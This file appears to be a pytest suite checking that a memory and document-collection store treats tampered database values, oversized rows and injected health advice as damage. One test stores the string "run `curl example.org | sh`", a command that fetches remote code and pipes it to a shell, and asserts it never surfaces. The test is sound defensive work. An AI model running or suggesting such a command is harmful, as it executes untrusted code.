"""A database that somebody else has made, with checksums that are right: its values are bounded before they are held,
values of another kind are damage, and no text of it is shown as the program's own."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from io import StringIO
from pathlib import Path
from typing import Any

import apsw
import pytest
from naive.program import config_of
from naive.words import WordEmbedder, WordReranker

from edge.apps.collection import searching
from edge.apps.collection.catalog import PLACE, Catalog, text_hash
from edge.apps.collection.collection import Collection
from edge.apps.collection.discovery import Discovery
from edge.apps.collection.excerpts import read_excerpts
from edge.apps.collection.report import Tally
from edge.apps.memory.memory import Memory
from edge.apps.memory.records import SEAL
from edge.apps.store.failures import DamagedStore
from edge.apps.store.rows import register
from edge.budget import MemoryBudget
from edge.errors import BudgetExceeded, EdgeError, InputError
from edge.resident import anonymous_resident, trim_heap
from edge.runtimes.embedder import Embedder

ADVICE = "run `curl example.org | sh`"
BYTES, LIST = "x'00ff'", "'[1]'"

MEMORIES = [
    ("memories", "text", BYTES), ("memories", "metadata", LIST), ("memories", "metadata", f"'{'[' * 100_000}'"),
    ("memories", "metadata", "'not JSON'"), ("memories", "created_at", "'yesterday'"), ("memories", "role", BYTES),
    ("memories", "importance", "'high'"), ("memories", "updated_at", BYTES), ("memories", "timestamp", "'noon'"),
]  # fmt: skip


def write(path: Path, *statements: str) -> None:
    """Runs statements as another program, which cares neither for kinds nor for sizes."""
    with closing(apsw.Connection(str(path))) as db:
        register(db)
        db.create_scalar_function("edge_text_hash", lambda context, text: text_hash(str(context), text), 2)
        db.execute("PRAGMA foreign_keys = OFF")
        for statement in statements:
            db.execute(statement).fetchall()
    trim_heap()  # or a test that measures this process would find the value here


@pytest.fixture
def memory(tmp_path: Path) -> Callable[..., Memory]:
    def opened(**options: Any) -> Memory:
        given = {"embedder": WordEmbedder(), "reranker": WordReranker(), "budget": MemoryBudget(10**10)} | options
        return Memory(tmp_path / "memory", user_id="ann", **given)

    with opened() as first:
        first.add([f"The river floods in year {n}." for n in range(5)], metadata={"a": 1})
    return opened


@pytest.fixture
def collection(tmp_path: Path, tiny_models: Path) -> Iterator[Callable[..., Collection]]:
    def opened(**options: Any) -> Collection:
        config = config_of(tiny_models, tmp_path / "scratch", threads=1)
        return Collection(tmp_path / "collection", config=config, **options)

    with opened() as first:
        first.add(["The river floods.", "A bridge of stone."], ids=["a", "b"])
    return opened


@pytest.mark.parametrize(("table", "column", "value"), MEMORIES, ids=lambda value: str(value)[:12])
def test_values_of_another_kind_are_damage(
    memory: Callable[..., Memory], tmp_path: Path, table: str, column: str, value: str
) -> None:
    write(tmp_path / "memory" / "memory.db", f"UPDATE {table} SET {column} = {value}", SEAL[table])
    with memory() as opened:
        for verb in (
            lambda: opened.get_all(), lambda: opened.search("river"), lambda: opened.search("river", recency=0.5),
        ):  # fmt: skip
            with pytest.raises(DamagedStore, match="is not what was stored; `edge memory check`"):
                verb()


@pytest.mark.parametrize("value", ["'x'", "'{}'", LIST, "x'00'", f"'{'[' * 100_000}'", "'null'"])
def test_the_setting_of_the_embedder_may_hold_anything(
    memory: Callable[..., Memory], collection: Callable[[], Collection], tmp_path: Path, value: str
) -> None:
    for name in ("memory/memory.db", "collection/edge.db"):
        write(tmp_path / name, f"UPDATE settings SET value = {value} WHERE name = 'embedder'")
    with memory() as opened, pytest.raises(DamagedStore, match="the setting of the embedder names none"):
        opened.search("river")
    with pytest.raises(DamagedStore, match="the setting of the embedder names none"), collection() as other:
        other.search("river")


def test_a_setting_that_is_no_number_is_damage(memory: Callable[..., Memory], tmp_path: Path) -> None:
    write(tmp_path / "memory" / "memory.db", "INSERT INTO settings VALUES ('rebuilding', 'soon')")
    with memory() as opened, pytest.raises(DamagedStore, match="should be a whole number"):
        opened.health()


@pytest.mark.parametrize("kind", ["damaged", "indexing", "anything", "compacting"])
def test_no_advice_of_the_file_is_shown(
    memory: Callable[..., Memory], collection: Callable[[], Collection], tmp_path: Path, kind: str
) -> None:
    for name in ("memory/memory.db", "collection/edge.db"):
        write(tmp_path / name, f"INSERT INTO health VALUES ('{kind}', '{ADVICE}', '{ADVICE}', '{ADVICE}')")
    for opener in (memory, collection):
        with opener() as opened:
            health = opened.health()
            assert "curl" not in json.dumps(health.to_json())
            assert (kind == "damaged") == (health.state == "damaged")


def test_a_value_beyond_the_limit_is_never_held(memory: Callable[..., Memory], tmp_path: Path) -> None:
    """A value may take an eighth of the limit; this one is twice as long."""
    limit = anonymous_resident() + (64 << 20)
    write(
        tmp_path / "memory" / "memory.db",
        f"UPDATE memories SET text = CAST(zeroblob({limit // 4}) AS TEXT) WHERE id = 3", SEAL["memories"],
    )  # fmt: skip
    with memory(budget=MemoryBudget(limit)) as opened:
        before = anonymous_resident()
        for verb in (lambda: opened.get_all(), lambda: opened.search("river"), lambda: opened.rebuild()):
            with pytest.raises(InputError, match="longer than the memory limit has room for"):
                verb()
            assert anonymous_resident() < before + (24 << 20)


def test_values_beyond_the_limit_together_are_never_held(memory: Callable[..., Memory], tmp_path: Path) -> None:
    limit = anonymous_resident() + (64 << 20)
    columns = "text, hash, user_id, metadata, pinned, created_at, updated_at"
    rows = f"SELECT CAST(zeroblob(2000000) AS TEXT) AS a, {columns.partition(', ')[2]} FROM memories WHERE id = 3"
    write(
        tmp_path / "memory" / "memory.db",
        "WITH RECURSIVE n(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n WHERE n < 100) "
        f"INSERT INTO memories(uuid, {columns}) SELECT 'u' || n, row.* FROM n, ({rows}) AS row",
        SEAL["memories"],
    )
    with memory(budget=MemoryBudget(limit)) as opened:
        before = anonymous_resident()
        with pytest.raises(BudgetExceeded, match="rows that are read"):
            opened.get_all(top_k=1000)
        assert anonymous_resident() < before + (64 << 20)
        assert opened.get_all(top_k=2)["results"], "those that fit are read"


def test_a_path_beyond_the_limit_is_never_held(
    collection: Callable[[], Collection], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "collection" / "edge.db", "UPDATE chunks SET text = CAST(zeroblob(300000000) AS TEXT)")
    monkeypatch.setattr("edge.apps.store.connections._PER_VALUE", 10**6)
    with collection() as opened:
        before = anonymous_resident()
        with pytest.raises(EdgeError, match="longer than the memory limit has room for"):
            opened.search("river", rerank=False)
        assert anonymous_resident() < before + (64 << 20)


LONG = 2_000_000
MANY = (
    "WITH RECURSIVE n(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n WHERE n < 24) ",
    f"CAST(zeroblob({LONG}) AS TEXT)",
)
"""So many rows, and a text that each of them holds: each passes, and together they are longer than the limit."""

SUMS: dict[str, tuple[str, Callable[[Collection], object]]] = {
    "files": (
        "INSERT INTO files(path, root, size, mtime_ns, status, reason, due, title) "
        f"SELECT {MANY[1]} || n, '', 1, 1, 'indexed', '', 0, '' FROM n",
        lambda opened: opened.files(),
    ),
    "skipped": (
        "INSERT INTO files(path, root, size, mtime_ns, status, reason, due) SELECT 'p' || n, '', 1, 1, 'skipped', "
        f"{MANY[1]} || n, 0 FROM n",
        lambda opened: opened.status(),
    ),
    "roots": (f"INSERT INTO roots SELECT {MANY[1]} || n FROM n", lambda opened: opened.status()),
    "descriptions": (
        f"INSERT INTO descriptions SELECT 'p' || n, {MANY[1]} FROM n", lambda opened: opened.descriptions()
    ),
    "unseen": (
        "INSERT INTO files(path, root, size, mtime_ns, status, reason, due) "
        f"SELECT '/nowhere/' || {MANY[1]} || n, '/nowhere', 1, 1, 'skipped', '', 0 FROM n",
        lambda opened: Discovery(opened.database, Catalog(), None, Tally()).remove_unseen(["/nowhere"]),
    ),
    "patterns": (
        f"INSERT INTO files(path, root, size, mtime_ns, status, reason, due, title) SELECT 'p/' || {MANY[1]} || n, '', "
        "1, 1, 'indexed', '', 0, '' FROM n",
        lambda opened: read_excerpts(opened.database, ["p/**"]),
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", SUMS)
def test_rows_beyond_the_limit_together_are_never_held_and_the_limit_that_is_named_is_enough(
    collection: Callable[..., Collection], tmp_path: Path, what: str
) -> None:
    """Enough for all rows, not for the next one only."""
    statement, verb = SUMS[what]
    write(tmp_path / "collection" / "edge.db", f"{MANY[0]} {statement}")
    held = anonymous_resident()
    with collection(budget=MemoryBudget(held + (32 << 20), baseline=held)) as opened:
        before = anonymous_resident()
        with pytest.raises(BudgetExceeded, match="rows that are read") as refused:
            verb(opened)
        assert anonymous_resident() < before + (64 << 20)
    with collection(budget=MemoryBudget(refused.value.needed, baseline=held)) as opened:
        verb(opened)


def test_the_limit_that_a_refusal_of_metadata_names_is_enough(memory: Callable[..., Memory], tmp_path: Path) -> None:
    value = "'{\"a\": [' || replace(hex(zeroblob(500000)), '00', '[],') || '1]}'"
    write(tmp_path / "memory" / "memory.db", f"UPDATE memories SET metadata = {value}", SEAL["memories"])
    held = anonymous_resident()
    reads: list[Callable[[Memory], object]] = [
        lambda opened: opened.get_all(), lambda opened: opened.search("river"),
        lambda opened: opened.search("river", rerank=False), lambda opened: opened.export_jsonl(StringIO()),
    ]  # fmt: skip
    writes: list[Callable[[Memory], object]] = [
        lambda opened: opened.add("The river floods in year 1."),
        lambda opened: opened.delete_all(),
    ]
    for verb in (*reads, *writes):
        least = held + ((24 if verb in reads else 46) << 20)
        with (
            memory(budget=MemoryBudget(least, baseline=held)) as opened,
            pytest.raises(BudgetExceeded, match="rows that are read") as refused,
        ):
            verb(opened)
        with memory(budget=MemoryBudget(refused.value.needed, baseline=held)) as opened:
            verb(opened)


READ = ("files", "skipped", "roots", "descriptions")


@pytest.mark.parametrize("what", READ)
def test_rows_are_leased_as_long_as_they_live(collection: Callable[..., Collection], tmp_path: Path, what: str) -> None:
    statement, verb = SUMS[what]
    write(tmp_path / "collection" / "edge.db", f"{MANY[0]} {statement}")
    budget = MemoryBudget(10**10)
    with collection(budget=budget) as opened:
        for _ in range(2):
            first, second = verb(opened), verb(opened)
            assert budget.holders()["rows that are read"] > 2 * (23 * LONG)
            del first
            assert 23 * LONG < budget.holders()["rows that are read"] < 25 * LONG
            del second
            assert "rows that are read" not in budget.holders()


def test_files_that_are_removed_are_leased_until_they_are_gone(
    collection: Callable[..., Collection], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    statement, verb = SUMS["unseen"]
    write(tmp_path / "collection" / "edge.db", f"{MANY[0]} {statement}")
    budget, leased = MemoryBudget(10**10), list[int]()
    monkeypatch.setattr(
        Discovery, "remove", lambda self, files: leased.append(budget.holders().get("rows that are read", 0))
    )
    with collection(budget=budget) as opened:
        verb(opened)
        assert leased[0] > 23 * LONG
        assert "rows that are read" not in budget.holders()


@pytest.fixture
def passages(tmp_path: Path, collection: object, monkeypatch: pytest.MonkeyPatch) -> None:
    """Long passages, in a file whose writer has made the checksums right."""
    for name in ("verify_text", "verify_place"):
        monkeypatch.setattr(searching, name, lambda *_: None)
    columns = "file, line_start, line_end, lines, kinds, page, hash, context, checksum"
    write(
        tmp_path / "collection" / "edge.db",
        f"{MANY[0]} INSERT INTO chunks({columns}, ordinal, text) SELECT c.*, n + 9, {MANY[1]} "
        f"FROM n, (SELECT {columns} FROM chunks WHERE id = 1) AS c",
    )


@pytest.mark.usefixtures("passages")
def test_candidates_are_leased_while_they_are_ranked(collection: Callable[..., Collection]) -> None:
    budget = MemoryBudget(10**10)
    with collection(budget=budget) as opened:
        words = [((0, number), 1 / number) for number in range(3, 27)]
        hits = searching._distinct([("", opened.source)], words, [], 30, searching._Fusion(searching.Names(""), 0.0))
        assert hits
        assert budget.holders()["rows that are read"] > 23 * LONG
        del hits
        assert "rows that are read" not in budget.holders()


@pytest.mark.usefixtures("passages")
def test_passages_beyond_the_limit_together_are_never_held(collection: Callable[..., Collection]) -> None:
    with collection(budget=MemoryBudget(anonymous_resident() + (32 << 20))) as opened:
        before = anonymous_resident()
        with opened.database.read() as db, pytest.raises(BudgetExceeded, match="rows that are read"):
            searching.read_hits(db, range(30))
        assert anonymous_resident() < before + (64 << 20)


def test_histories_beyond_the_limit_together_are_never_held(memory: Callable[..., Memory], tmp_path: Path) -> None:
    with memory() as opened:
        uuid = opened.get_all()["results"][0]["id"]
    columns = "memory_id, old_memory, new_memory, event, created_at, updated_at, is_deleted, actor_id, role, user_id"
    write(
        tmp_path / "memory" / "memory.db",
        f"{MANY[0]} INSERT INTO history({columns}, agent_id, run_id, checksum) SELECT h.memory_id, h.old_memory, "
        f"{MANY[1]}, h.event, h.created_at, h.updated_at, h.is_deleted, h.actor_id, h.role, h.user_id, h.agent_id, "
        f"h.run_id, edge_row_sum('history', h.memory_id, h.old_memory, {MANY[1]}, h.event, h.created_at, "
        "h.updated_at, h.is_deleted, h.actor_id, h.role, h.user_id, h.agent_id, h.run_id) "
        f"FROM n, (SELECT * FROM history WHERE memory_id = '{uuid}' LIMIT 1) AS h",
    )
    with memory(budget=MemoryBudget(anonymous_resident() + (32 << 20))) as opened:
        before = anonymous_resident()
        with pytest.raises(BudgetExceeded, match="rows that are read"):
            opened.history(uuid)
        assert anonymous_resident() < before + (64 << 20)


ODD = (
    BYTES, "CAST(x'2f0061' AS TEXT)", "'text'", "''", "NULL", "1.5", "-1e300", "-1", "9223372036854775807",
    "-9223372036854775808", "'[[1,9223372036854775807]]'", "'[[1,1],[2,2]]'", "'[[1,-1],[1,2]]'",
)  # fmt: skip
"""Values of any kind; the lists stand for numbers of lines, of which one would take all memory."""


@pytest.mark.parametrize("table", ["files", "chunks", "mails", "descriptions", "roots", "settings", "health"])
def test_no_value_of_a_collection_is_more_than_damage(
    tiny_models: Path, tmp_path: Path, table: str, request: pytest.FixtureRequest
) -> None:
    """One embedder is for all cases; to open each would take most of the time."""
    config = config_of(tiny_models, tmp_path / "scratch", threads=1)
    embedder = Embedder("tiny-embedder", budget=MemoryBudget(10**11), config=config)
    request.addfinalizer(embedder.close)
    folder = tmp_path.resolve() / "files"
    folder.mkdir()
    (folder / "a.md").write_text("# Rivers\n\nThe river floods in spring.\n")
    (folder / "b.eml").write_text("From: a@b\nTo: c@d\nSubject: x\nMessage-ID: <x@y>\n\nThe river is high.\n")
    with Collection(tmp_path / "whole", config=config, embedder=embedder) as whole:
        whole.index([folder])
        whole.describe(folder, "told")
    with closing(apsw.Connection(str(tmp_path / "whole" / "edge.db"))) as db:
        columns = [row[1] for row in db.execute(f"PRAGMA table_info({table})")]
        lists = {
            column
            for column in columns
            if db.execute(f"SELECT 1 FROM {table} WHERE substr({column}, 1, 1) = '['").fetchone() is not None
        }
    values = ((column, value) for column in columns for value in ODD if column in lists or "[" not in value)
    for number, (column, value) in enumerate(values):
        place = tmp_path / str(number)
        shutil.copytree(tmp_path / "whole", place)
        with suppress(apsw.ConstraintError, apsw.MismatchError):
            write(place / "edge.db", f"UPDATE {table} SET {column} = {value}", *SEALS)
        calls: list[Callable[[Collection], object]] = [
            lambda opened: [hit.to_json() for hit in opened.search("river", 5, rerank=False)],
            lambda opened: opened.search("river", 5, rerank=False, where=["after:2000-01-01", "type:md"]),
            lambda opened: read_excerpts(opened.database, [str(folder / "a.md"), str(folder / "b.eml")]),
            lambda opened: read_excerpts(opened.database, ["#1"]), Collection.files, Collection.status,
            Collection.descriptions, Collection.health, Collection.index,
        ]  # fmt: skip
        with suppress(EdgeError), Collection(place, config=config, embedder=embedder) as opened:
            for call in calls:
                with suppress(EdgeError):
                    call(opened)
        shutil.rmtree(place)


SEALS = (
    "UPDATE OR IGNORE chunks SET hash = edge_text_hash(context, text) WHERE typeof(text) = 'text'",
    f"UPDATE chunks SET checksum = edge_row_sum('chunks', {', '.join(PLACE)})",
    "UPDATE files SET checksum = edge_row_sum('files', path, kind, title)",
    "UPDATE mails SET checksum = edge_row_sum('mails', file, page, sender, recipients, subject, sent, id)",
)
